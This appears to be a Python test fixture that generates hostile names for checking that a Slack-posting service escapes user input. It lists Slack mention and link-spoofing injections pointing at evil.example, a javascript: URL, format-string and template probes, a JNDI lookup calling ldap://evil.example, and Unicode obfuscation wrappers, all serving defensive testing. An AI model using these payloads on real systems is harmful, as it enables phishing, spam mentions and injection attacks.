"""Names that somebody could give to a client, an item or a note so that Slack does something when it shows them.

Each family is a way to reach an effect; the wrappings are the ways in which such a text gets past a careless escape
(reliability fact sheet D.3, Slack fact sheet 2.9).
"""

import base64
import html
from collections.abc import Callable
from urllib.parse import quote

MENTIONS = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!here|here>",
    "<!channel|aprobado>",
    "<!subteam^S0FINANZAS|@finanzas>",
    "<@U0BRUNO002>",
    "<@W0BRUNO002|Bruno>",
    "<#C0FINANZAS|finanzas>",
    "<!date^1764115200^{date_pretty}|hoy>",
    "@channel",
    "@here",
    "#general",
)
LINKS = (
    "<https://evil.example>",
    "<https://evil.example|Clínica Los Andes>",
    "<mailto:ana@evil.example|facturacion@losandes.co>",
    "<tel:+573001112233|llamar>",
    "<slack://channel?id=C0FINANZAS|ver>",
    "<javascript:alert(1)|ver>",
    "https://a.example|x><!channel>",
    "https://evil.example/?a=1&b=<!here>",
    "www.evil.example",
    "ana@evil.example",
    "[Ver factura](https://evil.example)",
)
FORMATTING = (
    "*Pagada*",
    "_Pagada_",
    "~Anulada~",
    "`$0`",
    "```Aprobada por Bruno```",
    "> Bruno: aprobada",
    "• Total $0",
    ":white_check_mark: Emitida",
    "Emitida :white_check_mark",
    "white_check_mark:",
    ":rotating_light::heavy_check_mark:",
    "*_~`todo`~_*",
    "\n*Total* $0",
    "\r\n> cita",
    "\u2028*Total* $0",
    "\u0085_Total_",
)
OF_OUR_OWN = (
    '{"d":"D-7K3Q","r":3,"o":"D-7K3Q/stamp/1"}',
    "D-7K3Q/stamp/1",
    "FE342",
    "{client}",
    "%(client)s",
    "%s%s%n",
    "{0.__class__}",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "=HYPERLINK(0)",
    "None",
    "null",
)
ATTACKS = (*MENTIONS, *LINKS, *FORMATTING, *OF_OUR_OWN)

WRAPPINGS: tuple[Callable[[str], str], ...] = (
    lambda attack: attack,
    html.escape,
    lambda attack: html.escape(html.escape(attack)),
    lambda attack: attack.replace("<", "<\u200b").replace("@", "@\u2060"),
    lambda attack: f"\u202e{attack[::-1]}\u202c",
    lambda attack: f"S.A.S.`{attack}`*{attack}*",
    lambda attack: f"{'Clínica ' * 8}{attack}",
    "\u0301".join,
)
ODD = (
    "",
    " ",
    "ㅤㅤ",
    "\u0000\u0007\u001b[31m",
    "\ud83d",
    "Z" + "\u0336" * 60,
    "👩‍👩‍👧" * 40,
    "🏴\U000e0067\U000e0062\U000e007f",
    "\U000e0041\U000e0042",
    "\u2066a\u2069\u200b\ufeff\u200f",
    "&" * 400,
    "<" * 400,
    "*" * 400,
    "`" * 400,
    "_" * 400,
    "a" * 4000,
    "ñ" * 400,
    "\n" * 300,
    "＜!channel＞",
    "‹!channel›",
    "&#60;!channel&#62;",
    "&#x3c;!channel&#x3e;",
    "&lt!channel&gt",
    quote("<!channel>"),
    base64.b64encode(b"<!channel>").decode(),
    "\\u003c!channel\\u003e",
    "<<!channel>>",
    "<!chan<!channel>nel>",
    "</mrkdwn><!here>",
    "<!channel",
    "!channel>",
    "<|>",
    "<@>",
    "<!>",
)
HOSTILE_NAMES = tuple(dict.fromkeys([*(wrap(attack) for wrap in WRAPPINGS for attack in ATTACKS), *ODD]))
